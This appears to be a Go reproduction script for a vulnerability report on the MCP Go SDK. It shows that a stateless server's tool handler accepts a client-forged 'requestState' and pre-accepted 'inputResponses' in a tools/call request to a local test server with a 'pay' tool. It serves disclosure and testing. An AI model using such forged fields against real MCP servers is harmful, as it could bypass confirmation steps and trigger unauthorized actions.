//go:build ignore

// The SDK has no protection for requestState: a handler gets any state that a client sends.
// https://modelcontextprotocol.io/specification/2026-07-28/basic/patterns/mrtr
package main

import (
	"context"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

func main() {
	server := mcp.NewServer(&mcp.Implementation{Name: "repro", Version: "1"}, nil)
	mcp.AddTool(server, &mcp.Tool{Name: "pay"},
		func(_ context.Context, request *mcp.CallToolRequest, _ any) (*mcp.CallToolResult, any, error) {
			return nil, map[string]string{"state": request.Params.RequestState}, nil
		})
	handler := mcp.NewStreamableHTTPHandler(
		func(*http.Request) *mcp.Server { return server }, &mcp.StreamableHTTPOptions{Stateless: true})
	listener := httptest.NewServer(handler)
	defer listener.Close()

	body := strings.Replace(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"pay","arguments":{},`+
		`"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28",`+
		`"io.modelcontextprotocol/clientInfo":{"name":"c","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}`+`}}`, `"arguments":{}`,
		`"arguments":{},"requestState":"forged","inputResponses":{"q":{"action":"accept","content":{}}}`, 1)
	status, text := post(listener.URL, body, map[string]string{
		"MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call", "Mcp-Name": "pay",
	})
	if status == 200 && strings.Contains(text, `"state":"forged"`) {
		fmt.Println("the handler got a state that the server never gave:", text)
		return
	}
	fmt.Println("the call got status", status, text)
	os.Exit(1)
}

func post(url, body string, headers map[string]string) (int, string) {
	request, err := http.NewRequest("POST", url, strings.NewReader(body))
	if err != nil {
		log.Fatal(err)
	}
	request.Header.Set("Content-Type", "application/json")
	request.Header.Set("Accept", "application/json, text/event-stream")
	for name, value := range headers {
		request.Header.Set(name, value)
	}
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		log.Fatal(err)
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		log.Fatal(err)
	}
	return response.StatusCode, strings.ReplaceAll(strings.TrimSpace(string(text)), "\n", " ")
}
